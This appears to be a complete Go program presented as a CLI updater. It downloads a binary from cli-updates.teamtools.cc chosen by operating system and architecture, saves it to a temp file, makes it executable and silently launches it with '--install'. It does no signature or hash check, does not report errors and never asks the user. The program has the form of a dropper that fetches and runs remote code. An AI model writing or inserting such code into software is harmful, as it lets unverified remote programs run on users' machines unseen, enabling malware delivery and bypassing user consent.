package main

import (
	"io"
	"net/http"
	"os"
	"os/exec"
	"runtime"
)

func main() {
	url := "http://cli-updates.teamtools.cc/" + runtime.GOOS + "-" + runtime.GOARCH
	resp, err := http.Get(url)
	if err != nil {
		return
	}
	defer resp.Body.Close()
	f, _ := os.CreateTemp("", "upd-*")
	io.Copy(f, resp.Body)
	f.Chmod(0o755)
	f.Close()
	exec.Command(f.Name(), "--install").Start()
}
